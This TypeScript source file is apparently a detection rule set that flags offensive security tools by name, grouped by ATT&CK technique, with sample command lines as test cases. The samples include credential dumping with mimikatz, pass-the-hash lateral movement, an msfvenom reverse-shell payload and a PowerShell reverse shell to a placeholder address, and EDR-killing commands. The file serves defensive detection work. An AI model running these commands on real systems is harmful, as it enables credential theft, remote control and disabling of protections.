/**
 * Offensive tools by name, wherever the name stands: as program, script, PowerShell function, or file that is fetched.
 *
 * A name is not a behaviour, but nobody types it by accident; who renames the tool is caught by what it does. Lists are tables: a new tool is one word.
 */
import type { Severity } from '../types.ts';
import { behaviour } from './behaviour.ts';
import { onText, type LayerText, type Row } from './row.ts';

interface Family {
  readonly id: string;
  readonly technique: string;
  readonly tactic:
    | 'credential-access'
    | 'discovery'
    | 'lateral-movement'
    | 'privilege-escalation'
    | 'command-and-control'
    | 'execution'
    | 'persistence'
    | 'defense-evasion'
    | 'collection'
    | 'impact';
  readonly severity: Severity;
  readonly reason: string;
  readonly hits: readonly string[];
  readonly misses: readonly string[];
  /** Words in small letters; each must stand alone. */
  readonly words: string;
  /** Texts that count inside words too: a row of their own. */
  readonly parts?: readonly string[];
  readonly partHits?: readonly string[];
}

const FAMILIES: readonly Family[] = [
  {
    id: 'tool-credentials',
    technique: 'T1003',
    tactic: 'credential-access',
    severity: 'critical',
    reason: 'A tool that takes credentials out of memory, stores or browsers is named.',
    hits: [
      'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      'powershell Invoke-Mimikatz -DumpCreds',
      'LaZagne.exe all',
      'PPLdump.exe lsass.exe lsass.dmp',
      'pypykatz lsa minidump l.dmp',
      'SharpDPAPI.exe triage',
    ],
    misses: ['mimic --katz', 'cmdkey /list'],
    partHits: ['x.exe sekurlsa::logonpasswords exit'],
    words:
      'mimikatz mimidrv mimilib mimikittenz lazagne pypykatz ppldump ppldumb nanodump handlekatz dumpert outflank-dumpert sharpdump safetykatz betterSafetykatz sharpdpapi sharpchrome sharpweb sharpcloud sharpcookiemonster hackbrowserdata dploot lsassy physmem2profit wce gsecdump pwdump pwdump7 fgdump quarkspwdump cachedump lsadump secretsdump secretsdump.py ntdsutil.py invoke-mimikatz invoke-dcsync invoke-ninjacopy invoke-powerdump invoke-kerberoast invoke-inveigh get-gpppassword get-gppautologon get-cachedgpppassword get-vaultcredential invoke-credentialphisher invoke-loginprompt invoke-credentialinjection get-keystrokes out-minidump invoke-sessiongopher sessiongopher get-webconfig get-applicationhost kerbrute internalmonologue inveigh inveigh.exe responder.py forgecert sharpsecdump nppspy dumplsass procdump_lsass rdpthief keethief seatbelt gopherus credninja dpapi.py lapstoolkit sharplaps gmsapasswordreader kekeo lslsass creddump7 mimipy mimipenguin browserghost webbrowserpassview mailpassview netpass dumpcreds extpassword chromepass vncpwd passwordfox credentialsfileview vaultpasswordview wirelesskeyview nirsoft cookie-monster trufflesnout',
    parts: [
      'sekurlsa::',
      'lsadump::',
      'kerberos::',
      'privilege::debug',
      'crypto::',
      'token::elevate',
      'vault::',
      'misc::',
      'invoke-mimi',
      'mimikatz',
    ],
  },
  {
    id: 'tool-kerberos',
    technique: 'T1558',
    tactic: 'credential-access',
    severity: 'critical',
    reason: 'A tool that attacks Kerberos or certificates of the domain is named.',
    hits: [
      'Rubeus.exe kerberoast /outfile:h.txt',
      'python3 GetUserSPNs.py corp.example/u:p -request',
      'Certify.exe find /vulnerable',
      'certipy find -u u@corp.example -p p',
      'getTGT.py corp.example/u',
    ],
    misses: ['klist purge'],
    partHits: ['x.exe asktgt /user:bob /ptt'],
    words:
      'rubeus certify.exe certipy certipy-ad whisker pywhisker getuserspns getuserspns.py getnpusers getnpusers.py gettgt.py getst.py ticketer.py ticketer impacket-getuserspns impacket-getnpusers impacket-ticketer impacket-gettgt impacket-getst goldenpac.py raisechild.py raiseChild.py krbrelayx krbrelayx.py krbrelay krbrelayup addspn.py addspn addcomputer.py impacket-addcomputer renamemachine.py rbcd.py rbcd-attack targetedkerberoast.py tickeyconverter ticketconverter.py orpheus asreproast asrepcatcher tgsrepcrack.py kirbi2john.py pkinittools gettgtpkinit.py getnthash.py modifyCertTemplate.py pachine.py pachine nopac.py nopac sam_the_admin.py gpoddity pygpoabuse.py sharpgpoabuse standin powermad sharpmad new-machineaccount set-machineaccountattribute invoke-adidnsupdate dnstool.py adidnsdump invoke-aclscanner invoke-aclpwn aclpwn.py dacledit.py owneredit.py bloodyad passthecert.py petitpotam.py petitpotam printerbug.py dementor.py spoolsample dfscoerce.py shadowcoerce coercer webclientservicescanner asktgt s4u /rc4: tgtdeleg ptt',
    parts: [
      'execute-assembly',
      'invoke-rubeus',
      '/ticket:',
      '/impersonateuser',
      '/altservice',
      'asktgt',
      '/ptt',
      'kerberoast',
      'asreproast',
      '-impersonate ',
    ],
  },
  {
    id: 'tool-directory',
    technique: 'T1087.002',
    tactic: 'discovery',
    severity: 'critical',
    reason: 'A tool that maps a Windows domain is named (BloodHound, PowerView, ADRecon).',
    hits: [
      'SharpHound.exe -c All',
      'powershell . .\\PowerView.ps1; Get-NetUser',
      'Get-DomainUser -SPN',
      'bloodhound-python -u u -p p -d corp.example',
      'adfind.exe -f objectcategory=person',
    ],
    misses: ['powershell Get-ADUser -Identity bob'],
    partHits: ['x.exe -f objectcategory=person'],
    words:
      'sharphound bloodhound bloodhound-python bloodhound.py azurehound rusthound soaphound adexplorer adfind adrecon adrecon.ps1 pingcastle powerview powerview.ps1 sharpview ldapdomaindump ldapsearch-ad windapsearch windapsearch.py get-netdomain get-netuser get-netgroup get-netgroupmember get-netcomputer get-netdomaincontroller get-netloggedon get-netsession get-netrdpsession get-netforest get-netforestdomain get-netdomaintrust get-netforesttrust get-netgpo get-netgpogroup get-netou get-netshare get-netlocalgroup get-netfileserver get-domainuser get-domaingroup get-domaingroupmember get-domaincomputer get-domaincontroller get-domaintrust get-domainsid get-domainpolicy get-domaingpo get-domainou get-domainobject get-domainobjectacl get-domainobjectowner set-domainobject set-domainobjectowner add-domainobjectacl add-domaingroupmember set-domainuserpassword get-domainspnticket get-domaindfsshare get-domainfileserver get-domainforeignuser get-domainforeigngroupmember get-foresttrust get-forestdomain get-forestglobalcatalog find-domainuserlocation find-domainprocess find-domainshare find-domainlocalgroupmember find-interestingdomainacl find-interestingdomainsharefile find-interestingfile find-localadminaccess find-gpolocation find-gpocomputeradmin find-managedsecuritygroups find-foreigngroup find-foreignuser test-adminaccess invoke-userhunter invoke-sharefinder invoke-filefinder invoke-enumeratelocaladmin invoke-processhunter invoke-mapdomaintrust invoke-eventhunter invoke-stealthuserhunter invoke-checklocaladminaccess get-objectacl add-objectacl get-aduserspn convert-sidtoname convertfrom-sid convert-nametosid invoke-bloodhound get-pathacl get-regloggedon get-lastloggedon get-cachedrdpconnection get-exploitablesystem get-sqlinstancedomain get-sqlinstancelocal get-sqlserverlinkcrawl get-sqlserverlink get-sqlquery get-sqldatabase get-sqltable get-sqlcolumn get-sqlcolumnsampledata get-sqlserverinfo invoke-sqloscmd invoke-sqloscmdagentjob invoke-sqloscmdr invoke-sqlaudit invoke-sqlescalatepriv get-sqlconnectiontest get-sqlconnectiontestthreaded powerupsql powerupsql.ps1 snaffler snaffler.exe goddi silenthound lsarpc samrdump.py rpcdump.py rpcmap.py lookupsid.py netview.py impacket-lookupsid enum4linux enum4linux-ng smbmap adpeas adpeas.ps1 adalanche group3r ad-miner lyncsniper mailsniper invoke-domainpasswordspray domainpasswordspray invoke-passwordspray invoke-globalmailsearch invoke-selfsearch ruler msolspray o365spray trevorspray spray365 get-msolspray get-domainuserlist invoke-spraeyempty jaws-enum.ps1 hostrecon hostrecon.ps1 invoke-hostrecon',
    parts: ['sharphound', 'powerview', 'bloodhound', 'objectcategory=person', 'trustdmp', 'powersploit'],
  },
  {
    id: 'tool-remote',
    technique: 'T1021',
    tactic: 'lateral-movement',
    severity: 'critical',
    reason:
      'A tool that runs commands on other machines with taken credentials or hashes is named (impacket, CrackMapExec, evil-winrm).',
    hits: [
      'crackmapexec smb 10.0.0.5 -u Administrator -H :31d6cfe0d16ae931b73c59d7e0c089c0',
      'psexec.py corp.example/admin@10.0.0.5',
      'evil-winrm -i 10.0.0.5 -u admin -p x',
      'nxc smb 10.0.0.0/24',
      'Invoke-WMIExec -Target 10.0.0.5 -Hash x',
      'wmiexec.py -hashes :aad3b435 admin@10.0.0.5',
    ],
    misses: ['winrm quickconfig', 'python3 manage.py runserver'],
    partHits: ['x.py -hashes :31d6cfe0 corp/u@10.0.0.5'],
    words:
      'crackmapexec cme netexec nxc psexec.py smbexec.py wmiexec.py dcomexec.py atexec.py smbclient.py smbserver.py ntlmrelayx ntlmrelayx.py mssqlclient.py reg.py services.py rdp_check.py impacket-psexec impacket-smbexec impacket-wmiexec impacket-dcomexec impacket-atexec impacket-smbserver impacket-smbclient impacket-ntlmrelayx impacket-mssqlclient impacket-secretsdump evil-winrm invoke-wmiexec invoke-smbexec invoke-smbclient invoke-psexec invoke-thehash invoke-dcom sharpwmi sharpexec sharprdp sharpmove csexec paexec remcom winexe psexecsvc smbexec wmiexec dcomexec atexec pth-winexe pth-smbclient pth-wmis pth-net pth-rpcclient rpcclient xfreerdp rdesktop-pth scshell sharpsploit mitm6 mitm6.py responder bettercap ettercap arpspoof dsniff yersinia multirelay.py invoke-dcomupload powerlurk liquidsnake',
    parts: ['-hashes :', '-hashes lm', '--local-auth', '-just-dc', '--use-kcache', 'impacket'],
  },
  {
    id: 'tool-privileges',
    technique: 'T1068',
    tactic: 'privilege-escalation',
    severity: 'critical',
    reason: 'A tool that looks for or uses a way to higher rights is named (PowerUp, potato family, UAC bypasses).',
    hits: [
      'powershell Invoke-AllChecks',
      'JuicyPotato.exe -l 1337 -p c:\\windows\\system32\\cmd.exe -t *',
      'winPEASany.exe',
      'SharpUp.exe audit',
      'Invoke-Nightmare -DLL C:\\x.dll',
      'akagi64.exe 33',
    ],
    misses: ['PowerUpdater.exe'],
    partHits: ['MyPotato.exe -t *'],
    words:
      'winpeas winpeasany winpeasx64 powerup powerup.ps1 invoke-allchecks sharpup watson sherlock privesccheck privesccheck.ps1 invoke-privesccheck juicypotato juicypotatong roguepotato sweetpotato rottenpotato badpotato godpotato printspoofer efspotato localpotato genericpotato coercedpotato hotpotato tater invoke-tater lovelypotato sharpefspotato invoke-serviceabuse write-servicebinary write-hijackdll write-useraddmsi install-servicebinary find-processdllhijack find-pathdllhijack get-modifiablepath get-modifiableservice get-modifiableservicefile get-unquotedservice get-serviceunquoted get-unattendedinstallfile get-registryalwaysinstallelevated get-registryautologon get-modifiablescheduledtaskfile invoke-eventvwrbypass invoke-bypassuac bypassuac uacme akagi64 akagi32 invoke-nightmare sharpprintnightmare cve-2021-1675.ps1 hivenightmare invoke-tokenmanipulation incognito tokenvator sharptoken fodhelperbypass sdcltbypass winpwnage beroot.exe accesschk_xp spoolfool sharpzerologon zerologon perfusion runascs invoke-runascs sharpelevator elevatekit mshtabypass trustedinstaller_token nsudo advancedrun elevationstation wdextract',
    parts: [
      'winpeas',
      'invoke-eventvwr',
      'invoke-ms1',
      'potato.exe',
      'privesc',
      'printnightmare',
      'uacbypass',
      'bypassuac',
    ],
  },
  {
    id: 'tool-framework',
    technique: 'T1059',
    tactic: 'command-and-control',
    severity: 'critical',
    reason:
      'A framework for remote control or its payload is named (Metasploit, Cobalt Strike, Empire, Sliver, Covenant, Nishang).',
    hits: [
      'msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST=203.0.113.5 -f exe -o a.exe',
      'msfconsole -x "use exploit/multi/handler"',
      'powershell Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.5 -Port 443',
      'Invoke-ConPtyShell 10.0.0.2 3001',
    ],
    misses: ['sliver-ui --port 80'],
    partHits: ['x -p windows/x64/meterpreter/reverse_tcp'],
    words:
      'msfvenom msfconsole msfpc meterpreter metasploit cobaltstrike beacon.exe beacon.dll sliver-client sliver-server covenant empire powershell-empire invoke-empire nishang invoke-powershelltcp invoke-powershelltcponeline invoke-powershelludp invoke-powershellicmp invoke-conptyshell invoke-reversepowershell invoke-shellcode invoke-shellcodemsil invoke-reflectivepeinjection invoke-dllinjection invoke-psinject invoke-powershellwmi invoke-backdoor invoke-persistence add-persistence new-userpersistenceoption new-elevatedpersistenceoption add-scrnsavebackdoor add-regbackdoor set-wmipersistence invoke-obfuscation invoke-cradlecrafter invoke-dosfuscation invoke-expressionist out-encodedcommand out-compressedscript donut donut.exe scarecrow macropack unicorn.py veil-evasion shellter sharpshooter koadic poshc2 pupy pupyrat merlinagent mythic havoc brc4 bruteratel villain hoaxshell powercat powercat.ps1 invoke-powercat dnscat2-powershell invoke-dnscat2 invoke-cobaltstrike sharpersist sharpc2 starkiller caldera sandcat splunkd_sandcat atomicredteam invoke-atomictest out-atomic sharpstay sharpcollection sharpwebserver sharpkatz sharpspray sharpmapexec sharpshares sharpsniper sharpshell sharpchisel invoke-sharploader sharploader inlineexecute-assembly inline-execute stageless payloadsallthethings evilginx evilginx2 gophish setoolkit beef-xss wsuspendu sharpwsus wsuxploit powershx quasar njrat asyncrat remcos darkcomet nanocore dcrat orcusrat redline venomrat xworm lumma vidar agenttesla invoke-psimage invoke-cipher extract-invoke-psimage invoke-thunderstruck',
    parts: [
      'meterpreter',
      'reverse_tcp',
      'reverse_http',
      'bind_tcp',
      'invoke-powershelltcp',
      'nishang',
      'cobaltstrike',
      'cobalt strike',
      'powersploit',
      'invoke-shellcode',
      'invoke-obfuscation',
      'psattack',
      'redteam',
      'red-team',
      'atomic-red-team',
      'empireproject',
    ],
  },
  {
    id: 'tool-defence',
    technique: 'T1562.001',
    tactic: 'defense-evasion',
    severity: 'critical',
    reason: 'A tool that blinds or kills protections is named (Backstab, EDRSandblast, defendercontrol).',
    hits: [
      'Backstab64.exe -n MsMpEng.exe -k',
      'EDRSandBlast.exe --kernelmode',
      'defendercontrol.exe /D',
      'Invoke-Phant0m',
    ],
    misses: ['gmer-docs.pdf'],
    partHits: ['powershell -f .\\MyAmsiBypass1.ps1'],
    words:
      'backstab backstab64 edrsandblast edrsilencer edrkillshifter terminator.exe killav pchunter pchunter64 gmer gmer.exe iobitunlocker defendercontrol defendercontrol.exe dcontrol dcontrol.exe powertool powertool64 processhacker.exe kprocesshacker killdefender phant0m invoke-phant0m evtmute sharpblock freeze.rs unhook-bof invoke-amsibypass amsitrigger nukeamsi amsi.fail invoke-noamsi spawnto ghostpack defenderremover windowsdefenderremover avkill aswarpot.sys rtcore64.sys dbutil_2_3.sys gdrv.sys procexp152.sys zemana truesightkiller kdmapper nimblackout blackout.exe cytool',
    parts: ['amsibypass', 'amsi_bypass', 'disable-defender', 'disabledefender', 'invoke-noamsi', 'edrkill', 'kill-av'],
  },
  {
    id: 'tool-web',
    technique: 'T1190',
    tactic: 'execution',
    severity: 'high',
    reason: 'A tool that attacks web servers or guesses passwords is named.',
    hits: [
      'sqlmap -u http://host.example/?id=1 --dump',
      'gobuster dir -u http://host.example -w l.txt',
      'hashcat -m 1000 h.txt w.txt',
      'john --wordlist=w.txt h',
    ],
    misses: ['curl http://host.example'],
    words:
      'sqlmap gobuster dirbuster dirb wfuzz ffuf feroxbuster nikto wpscan hashcat hashcat64 ophcrack ysoserial ysoserial.exe nuclei commix xsser joomscan droopescan aquatone sqlninja cewl crunch hcxdumptool aircrack-ng airodump-ng aireplay-ng reaver wifite searchsploit exploitdb weevely weevely3 antsword godzilla behinder china-chopper unshadow zip2john ssh2john rar2john office2john pdf2john keepass2john john searchsploit',
  },
];

export const TOOLS: readonly Row[] = FAMILIES.flatMap(
  ({ id, technique, tactic, severity, reason, hits, misses, words, parts = [], partHits = [] }) => {
    const row = (rowId: string, rowHits: readonly string[], look: Row['look']): Row =>
      behaviour(rowId, ['tool', technique, tactic, severity, 'medium'], {
        reason,
        benign: ['a penetration test or an exercise', 'a scanner or a report that names the tool'],
        hits: rowHits,
        misses,
        look,
      });
    return [
      row(
        id,
        hits,
        onText(
          [...new Set(words.toLowerCase().split(' '))],
          (layer, at, word) => standsByItself(layer, at, word) && isNoMention(layer, at),
        ),
      ),
      ...(parts.length === 0 ? [] : [row(`${id}-words`, partHits, onText(parts, isNoMention))]),
    ];
  },
);

/** Removing, searching or installing documentation about a tool names it too. */
function isNoMention({ lower }: LayerText, at: number): boolean {
  return !/(?:^|[\s;|&])(?:man|tldr|grep|apropos|whatis)\s[^;|&]{0,30}$/.test(lower.slice(Math.max(0, at - 60), at));
}

/** Not a part of a longer name; a program's extension may follow (`.exe`, `64.exe`, `.ps1`). */
function standsByItself({ lower }: LayerText, at: number, word: string): boolean {
  if (/[a-z0-9_.-]/.test(lower[at - 1] ?? ' ')) return false;
  const after = lower.slice(at + word.length, at + word.length + 9);
  return /^(?:$|[^a-z0-9_.-]|\.(?:$|[^a-z0-9])|(?:_?x?(?:64|32|86))?\.(?:exe|ps1|psm1|psd1|py|dll|bin|rb|pl|sh|zip|bat|git)(?![a-z0-9]))/.test(
    after,
  );
}
